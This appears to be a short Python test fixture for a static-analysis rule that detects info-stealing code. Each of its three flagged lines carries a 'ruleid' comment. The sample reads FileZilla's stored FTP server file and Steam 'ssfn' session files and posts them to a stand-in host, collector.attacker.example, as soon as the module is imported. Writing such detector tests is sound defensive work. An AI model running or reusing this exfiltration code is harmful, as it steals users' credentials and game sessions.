# Stored FTP logins and Steam session files, their paths spelled in pieces, posted at import time.
import glob
import os

import requests

# ruleid: code/info-stealing
sites = os.path.join(os.getenv('APPDATA', ''), 'FileZilla', 'recentservers.xml')
requests.post('https://collector.attacker.example/f', data=open(sites).read())
# ruleid: code/info-stealing
for f in glob.glob(os.path.join('C:/Program Files (x86)', 'Steam', 'ssfn*')):
    # ruleid: code/info-stealing
    requests.post('https://collector.attacker.example/s', files={'f': open(f, 'rb')})
